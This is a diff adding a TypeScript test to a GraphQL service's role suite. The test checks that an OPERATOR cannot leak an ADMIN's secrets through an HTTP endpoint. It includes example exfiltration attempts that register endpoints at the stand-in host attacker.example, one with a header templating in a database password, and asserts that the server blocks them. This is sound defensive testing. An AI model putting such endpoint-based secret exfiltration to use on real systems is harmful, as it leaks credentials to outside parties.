@@ -331,6 +331,89 @@ describe('roles', () => {
     ).toBe('mine');
   });
 
+  it("keeps secrets written later out of an OPERATOR's endpoint, whoever created the config", async () => {
+    const code = (r: { body: { errors?: { extensions?: any }[] } }) => r.body.errors?.[0]?.extensions?.code;
+    // An OPERATOR aims its endpoint at a config while it holds no secret; an ADMIN adds one later.
+    const shared = await gql(
+      keys.ADMIN,
+      'mutation { setConfig(input: { name: "later.shared", entries: [{ key: "region", value: "eu" }] }) { id } }',
+    );
+    const configId = shared.body.data.setConfig.id as string;
+    const aimed = await gql(
+      keys.OPERATOR2,
+      'mutation ($c: ID) { registerEndpoint(input: { name: "later.exfil", kind: HTTP, url: "https://attacker.example/", configId: $c }) { id } }',
+      { c: configId },
+    );
+    expect(aimed.body.errors).toBeUndefined();
+    const addSecret = await gql(
+      keys.ADMIN,
+      'mutation { setConfig(input: { name: "later.shared", entries: [{ key: "region", value: "eu" }, { key: "apiToken", value: "admin-only-secret-42", secret: true }] }) { id } }',
+    );
+    expect(code(addSecret)).toBe('CONFLICT');
+    expect(addSecret.body.errors![0]!.message).toContain('later.exfil');
+    expect(addSecret.body.errors![0]!.extensions.endpoints).toEqual(['later.exfil']);
+    // Nothing was written: the config still holds no secret.
+    expect((await t.query('select entries from configs where id = $1', [configId])).rows[0].entries).toEqual({
+      region: { value: 'eu', secret: false },
+    });
+    // An ADMIN's own endpoints, and an OPERATOR's secrets in its own config for its own endpoint, are fine.
+    await gql(
+      keys.ADMIN,
+      'mutation { registerEndpoint(input: { name: "later.admins", kind: HTTP, url: "https://partner.example/", configId: "' +
+        configId +
+        '" }) { id } }',
+    );
+    expect(
+      (await gql(keys.OPERATOR2, 'mutation ($id: ID!) { archiveEndpoint(id: $id) { id } }', { id: aimed.body.data.registerEndpoint.id }))
+        .body.errors,
+    ).toBeUndefined();
+    expect(
+      (
+        await gql(
+          keys.ADMIN,
+          'mutation { setConfig(input: { name: "later.shared", entries: [{ key: "apiToken", value: "admin-only-secret-42", secret: true }] }) { id } }',
+        )
+      ).body.errors,
+    ).toBeUndefined();
+    const own = await gql(
+      keys.OPERATOR2,
+      'mutation { setConfig(input: { name: "later.own", entries: [{ key: "host", value: "example.com" }] }) { id } }',
+    );
+    await gql(
+      keys.OPERATOR2,
+      'mutation ($c: ID) { registerEndpoint(input: { name: "later.own", kind: HTTP, url: "https://example.com/", configId: $c }) { id } }',
+      {
+        c: own.body.data.setConfig.id,
+      },
+    );
+    expect(
+      (
+        await gql(
+          keys.OPERATOR2,
+          'mutation { setConfig(input: { name: "later.own", entries: [{ key: "pw", value: "operator-own-secret", secret: true }] }) { id } }',
+        )
+      ).body.errors,
+    ).toBeUndefined();
+
+    // An ADMIN's secret in a config an OPERATOR created stays the ADMIN's: the OPERATOR may not aim an endpoint at it.
+    const opCfg = await gql(keys.OPERATOR2, 'mutation { setConfig(input: { name: "later.opcfg", entries: [] }) { id } }');
+    expect(
+      (
+        await gql(
+          keys.ADMIN,
+          'mutation { setConfig(input: { name: "later.opcfg", entries: [{ key: "dbPassword", value: "admin-pw-777777", secret: true }] }) { id } }',
+        )
+      ).body.errors,
+    ).toBeUndefined();
+    const steal = await gql(
+      keys.OPERATOR2,
+      'mutation ($c: ID) { registerEndpoint(input: { name: "later.steal", kind: HTTP, url: "https://attacker.example/", headers: { x: "{{config.dbPassword}}" }, configId: $c }) { id } }',
+      { c: opCfg.body.data.setConfig.id },
+    );
+    expect(code(steal)).toBe('FORBIDDEN');
+    expect((await t.query(`select count(*)::int as n from endpoints where name = 'later.steal'`)).rows[0].n).toBe(0);
+  });
+
   it('lets only an installation admin revoke an installation-admin key', async () => {
     const code = (r: { body: { errors?: { extensions?: any }[] } }) => r.body.errors?.[0]?.extensions?.code;
     const root = await t.service.bootstrapKey('default', 'ADMIN', 'installation admin to keep', true);
